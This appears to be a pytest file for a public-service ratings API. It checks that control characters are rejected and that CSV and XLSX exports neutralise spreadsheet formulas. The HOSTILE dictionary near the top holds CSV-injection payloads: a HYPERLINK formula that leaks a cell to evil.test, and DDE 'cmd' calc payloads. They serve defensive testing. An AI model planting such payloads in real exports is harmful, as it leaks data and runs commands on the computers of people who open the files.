"""Exports safe for Excel: control characters are refused at input (422 naming the field) and
stripped from what was stored before; text that a spreadsheet would take for a formula is
quoted in CSV and a plain string cell in XLSX (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
import zipfile

from openpyxl import load_workbook
from sqlalchemy import text

from app.stats import spreadsheet as exports
from tests.fixtures.factories import assert_problem, make_key, make_window
from tests.fixtures.stats import event, import_departments, post_all, roll_up

HYPERLINK = '=HYPERLINK("http://evil.test/?leak="&A1,"点击")'
HOSTILE = {
    "department": HYPERLINK,
    "window": "+cmd|' /C calc'!A0",
    "staff": "@SUM(1+1)*cmd|' /C calc'!A0",
    "detail_department": "－1+1",  # full-width minus: Excel reads it as a formula too
}


async def test_control_characters_are_refused_at_input_naming_the_field(app, client, admin):
    await import_departments(client, admin, [("SJ", "市监局")])
    portal = {"X-API-Key": await make_key(app, "portal")}
    hotline = {"X-API-Key": await make_key(app, "hotline")}
    bad = "控制\u0013字符"
    r = await client.put("/v1/departments/KZ", json={"name": bad}, headers=admin)
    assert_problem(r, 422, field="name")
    r = await client.put(
        "/v1/departments/SJ/windows/A02", json={"name": "窗口\u007f"}, headers=admin
    )
    assert_problem(r, 422, field="name")
    r = await client.put(
        "/v1/departments/SJ/windows/A%C2%8502", json={"name": "窗口"}, headers=admin
    )
    assert_problem(r, 422, field="path")
    r = await client.get("/v1/ratings", params={"staff_id": "7\u001b[2J"}, headers=admin)
    assert_problem(r, 422, field="query.staff_id")
    for field, value in [
        ("staff_id", "0\u000842"),
        ("comment", "很好\u0000"),
        ("comment", "很好\u001b[31m"),
        ("service_item_name", "事项\u0085"),
        ("case_no", "A\tB"),
    ]:
        body = event("SJ", 5, _now(), channel="pc", **{field: value})
        r = await client.post("/v1/ratings", json=body, headers=portal)
        assert_problem(r, 422, field=field)
    r = await client.post(
        "/v1/ratings",
        json=event("SJ", 5, _now(), channel="pc", rater={"name": "张\u0013三"}),
        headers=portal,
    )
    assert_problem(r, 422, field="rater.name")
    # Free text keeps its tabs and line breaks.
    r = await client.post(
        "/v1/ratings",
        json=event("SJ", 4, _now(), channel="pc", comment="第一行\n第二行\t好"),
        headers=portal,
    )
    assert r.status_code == 201, r.text
    complaint = {
        "order_no": "12345-KZ-1",
        "department_code": "SJ",
        "content": "投诉内容\u0013",
        "received_at": _now(),
    }
    r = await client.post("/v1/complaints", json=complaint, headers=hotline)
    assert_problem(r, 422, field="content")
    r = await client.post(
        "/v1/complaints",
        json={**complaint, "content": "ok", "staff_id": "9\u001f"},
        headers=hotline,
    )
    assert_problem(r, 422, field="staff_id")
    async with app.state.engine.connect() as conn:
        assert (await conn.execute(text("SELECT count(*) FROM department"))).scalar_one() == 1
        assert (await conn.execute(text("SELECT count(*) FROM complaint"))).scalar_one() == 0
        assert (await conn.execute(text("SELECT count(*) FROM rating"))).scalar_one() == 1


def _now() -> str:
    from datetime import UTC, datetime

    return datetime.now(UTC).isoformat()


def _csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


async def test_every_export_survives_hostile_stored_text(app, client, admin):
    """Names stored before the input checks (written here with SQL): every export answers 200,
    without the control characters, and no formula reaches a cell."""
    await import_departments(client, admin, [("SJ", "市监局"), ("RS", "人社局")])
    await make_window(client, admin, "SJ", "B02")
    at = "2023-10-02T09:00:00+08:00"
    await post_all(
        client,
        admin,
        [
            event("SJ", 5, at, window_no="A01", staff_id="S1"),
            event("SJ", 1, at, window_no="B02", staff_id="S2", tags=["attitude"]),
            event("RS", 4, at, channel="pc"),
        ],
    )
    async with app.state.engine.begin() as conn:
        await conn.execute(
            text("UPDATE department SET name = :n WHERE code = 'SJ'"),
            {"n": "\u0013" + HOSTILE["department"]},  # stripped first, then quoted
        )
        await conn.execute(
            text("UPDATE department SET name = :n WHERE code = 'RS'"),
            {"n": HOSTILE["detail_department"] + "\u0007"},
        )
        await conn.execute(
            text("UPDATE service_window SET name = :n WHERE window_no = 'B02'"),
            {"n": HOSTILE["window"] + "\u001b"},
        )
        await conn.execute(
            text("UPDATE service_window SET name = '控制' || chr(19) || '字符' "
                 "WHERE window_no = 'A01' AND department_code = 'SJ'")
        )  # fmt: skip
        await conn.execute(
            text("UPDATE rating SET staff_id = :s WHERE staff_id = 'S2'"), {"s": HOSTILE["staff"]}
        )
    await roll_up(app)
    q = {"period": "2023Q4"}
    hostile = set(HOSTILE.values())
    for path in ("/v1/stats/overview", "/v1/stats/departments", "/v1/stats/departments/SJ",
                 "/v1/stats/departments/RS", "/v1/stats/reasons"):  # fmt: skip
        r = await client.get(path, params={**q, "format": "csv"}, headers=admin)
        assert r.status_code == 200, (path, r.text)
        cells = [cell for row in _csv_rows(r.content) for cell in row]
        assert not any(exports._UNPRINTABLE.search(cell) for cell in cells), path
        assert not [c for c in cells if c.startswith(exports._FORMULA_START)], path
        seen = {c[1:] for c in cells if c.startswith("'")}
        r = await client.get(path, params={**q, "format": "xlsx"}, headers=admin)
        assert r.status_code == 200, (path, r.text)
        sheet_xml = zipfile.ZipFile(io.BytesIO(r.content)).read("xl/worksheets/sheet1.xml")
        assert b"<f>" not in sheet_xml, path  # not one formula
        sheet = load_workbook(io.BytesIO(r.content)).active
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert not exports._UNPRINTABLE.search(cell.value), (path, cell.value)
                    if cell.value.startswith(exports._FORMULA_START):
                        assert cell.data_type == "s" and cell.quotePrefix, (path, cell.value)
                        assert cell.value in hostile, (path, cell.value)
                        assert cell.value in seen, (path, cell.value)  # the CSV quoted it too
        if path == "/v1/stats/departments/SJ":
            assert {HOSTILE["department"], HOSTILE["window"], HOSTILE["staff"]} <= seen
            assert "控制字符" in cells
        if path == "/v1/stats/departments/RS":
            assert HOSTILE["detail_department"] in seen
